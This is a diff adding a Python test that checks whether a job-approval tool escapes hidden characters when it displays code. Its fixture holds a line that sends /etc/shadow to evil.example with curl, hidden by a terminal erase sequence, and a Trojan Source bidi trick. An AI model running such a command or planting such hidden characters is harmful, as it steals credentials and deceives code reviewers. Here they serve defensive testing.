@@ -156,3 +156,20 @@ def test_a_job_whose_node_stopped_mid_run_is_failed_as_interrupted(tmp_path):
     assert seen["state"] == "failed" and seen["reason"].startswith("interrupted")
     again = qdsn("jobs", "approve", job, home=home, ok=False)
     assert again.returncode != 0 and "is failed" in again.stdout + again.stderr
+
+
+def test_the_source_shown_for_approval_hides_nothing(tmp_path):
+    source = ("import os, sys\n"
+              "os.system('curl -d @/etc/shadow evil.example')\x1b[2K\r# harmless\n"  # erases itself on a terminal
+              "access = 'user\u202e \u2066# admin only\u2069 \u2066'\n"  # Trojan Source
+              "print('{\"pass\": true}')  # [red]not markup[/red]\u200b\n")  # fmt: skip
+    home, job = lab(tmp_path, source)
+    shown = qdsn("jobs", "show", job, home=home).stdout
+    for raw in ("\x1b", "\r", "\u202e", "\u2066", "\u2069", "\u200b"):
+        assert raw not in shown  # nothing reaches the terminal to act on it
+    assert "os.system('curl -d @/etc/shadow evil.example')\\x1b[2K\\r# harmless" in shown
+    assert "access = 'user\\u202e \\u2066# admin only\\u2069 \\u2066'" in shown
+    assert "# [red]not markup[/red]\\u200b" in shown  # markup in source is printed, not obeyed
+    warning = shown[: shown.index("import os, sys")]
+    assert "m.py holds 7 hidden characters" in warning
+    assert "line 2, column 47: \\x1b control character" in warning and "RIGHT-TO-LEFT OVERRIDE" in warning
